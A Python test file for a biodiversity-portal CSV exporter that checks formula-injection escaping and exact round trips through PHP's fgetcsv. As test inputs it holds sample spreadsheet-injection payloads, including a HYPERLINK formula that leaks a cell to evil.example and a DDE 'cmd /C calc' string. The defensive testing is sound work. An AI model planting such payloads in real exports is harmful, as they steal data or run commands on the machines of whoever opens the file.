"""CSV injection (issue 13 item 15) and exact round trips through PHP's ``fgetcsv``.

Rule: a value a spreadsheet would run (first character ``= + - @``, tab, CR, LF; not a plain
number) is written as ``'`` + value in the files people open (unmatched, superseded). In the
import file such a value is never escaped (the portal would store or match the ``'``): the
row is refused with a reason instead, and every value that is written reads back exactly.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from php_csv import php_available, read_with_php
from symbiota_helpers import link

from cyverse_link.core.models import Match, MatchStatus
from cyverse_link.portal.csvfile import COLUMNS, CsvPortal, csv_row, import_line
from cyverse_link.portal.csvformat import (
    FORMULA_START,
    Unrepresentable,
    is_formula,
    php_csv_line,
    spreadsheet_safe,
)

pytestmark = pytest.mark.filterwarnings("ignore::hypothesis.errors.NonInteractiveExampleWarning")

# Text without NUL (PHP strings keep it, json and MariaDB VARCHAR handling differ) and without
# lone surrogates (not UTF-8).
TEXT = st.text(
    st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=40
)
TRIGGER = st.sampled_from(sorted(FORMULA_START))


@given(first=TRIGGER, rest=TEXT)
@example(first="=", rest='HYPERLINK("http://evil.example/?x="&A1,"click")')
@example(first="@", rest="SUM(1+1)*cmd|' /C calc'!A0")
def test_a_value_starting_with_a_formula_character_is_made_text(first: str, rest: str) -> None:
    value = first + rest
    if is_formula(value):
        assert spreadsheet_safe(value) == "'" + value
    else:  # only plain numbers (-12, +3.5e2) are left alone: spreadsheets read them as numbers
        assert value.lstrip("+-")[:1].isdigit() or value.lstrip("+-")[:1] == "."
        assert spreadsheet_safe(value) == value


@given(TEXT)
def test_other_values_are_unchanged(value: str) -> None:
    if value[:1] not in FORMULA_START:
        assert spreadsheet_safe(value) == value and not is_formula(value)


@pytest.mark.parametrize("number", ["-12", "+3", "-0.5", "1e5", "-2E-3"])
def test_plain_numbers_are_not_formulas(number: str) -> None:
    assert not is_formula(number)


@pytest.mark.parametrize(
    "catalog", ['=HYPERLINK("http://x","y")', "+1+cmd", "-2+3", "@SUM(A1)", "\tASU1", "\rX"]
)
def test_without_read_access_a_formula_catalog_number_is_refused_not_escaped(
    tmp_path: Path, catalog: str
) -> None:
    """Escaping it would make the import look for ``'=…`` and silently link nothing; the file
    is reported instead, and nothing goes into the import file for it."""
    portal = CsvPortal(tmp_path, collid=7, code="X")
    bad, good = link(catalog, "bad.jpg"), link("ASU2")
    unknown = MatchStatus.NOT_CHECKED
    result = portal.write([(bad, Match(catalog, unknown)), (good, Match("ASU2", unknown))])
    assert "formula" in result.errors[bad.source_identifier]
    assert list(result.written) == [good.source_identifier]
    assert result.path is not None
    assert catalog.strip() not in result.path.read_text(encoding="utf-8")


def test_with_read_access_a_formula_catalog_number_still_links_by_occid(tmp_path: Path) -> None:
    """The import row carries the occid and an empty catalogNumber: nothing to escape."""
    catalog = '=HYPERLINK("http://evil.example","x")'
    row = csv_row(link(catalog), Match(catalog, MatchStatus.MATCHED, (12,)), "ASU")
    line = import_line(row)
    assert "HYPERLINK" not in line.split(",")[1] and line.startswith("12,,")


def test_a_formula_collection_name_is_left_out_of_owner(tmp_path: Path) -> None:
    class Reader:
        def match(self, catalogs: object) -> dict[str, Match]:
            return {"A1": Match("A1", MatchStatus.MATCHED, (1,))}

        def collection_name(self) -> str:
            return "=1+1"

        def close(self) -> None:
            pass

    portal = CsvPortal(tmp_path, collid=7, code="X", reader=Reader())
    assert portal.owner() == ""
    assert portal.write([(link("A1"), Match("A1", MatchStatus.MATCHED, (1,)))]).written


@pytest.mark.skipif(not php_available(), reason="PHP is not installed")
@settings(
    max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(rows=st.lists(st.lists(TEXT, min_size=3, max_size=3), min_size=1, max_size=6))
@example(rows=[["a\\", 'b\\"', "c,\\"], ['\\\\"', "x\\\\", " lead"], ['"', "\r\n", "\\,"]])
def test_every_written_value_reads_back_exactly_in_php(
    tmp_path: Path, rows: list[list[str]]
) -> None:
    """What ``php_csv_line`` writes, PHP's ``fgetcsv`` (Symbiota's reader) returns unchanged;
    what it cannot write that way it refuses (``Unrepresentable``), never writes wrongly."""
    written: list[list[str]] = []
    lines: list[str] = []
    for row in rows:
        try:
            lines.append(php_csv_line(row))
        except Unrepresentable:
            assert any(v.endswith("\\") for v in row)
            continue
        written.append(row)
    path = tmp_path / "rt.csv"
    path.write_text("h1,h2,h3\r\n" + "".join(lines), encoding="utf-8", newline="")
    assert read_with_php(path)[1:] == written


def test_header_is_the_import_field_map_names() -> None:
    # OccurrenceImport::setTargetFieldArr (3.4.14), lower-cased by the mapping page
    targets = {
        "occid", "catalognumber", "originalurl", "url", "thumbnailurl", "archiveurl",
        "sourceidentifier", "format", "hashfunction", "hashvalue", "mediamd5",
        "sortoccurrence", "owner",
    }  # fmt: skip
    assert {c.lower() for c in COLUMNS} == targets and COLUMNS[0] == "occid"
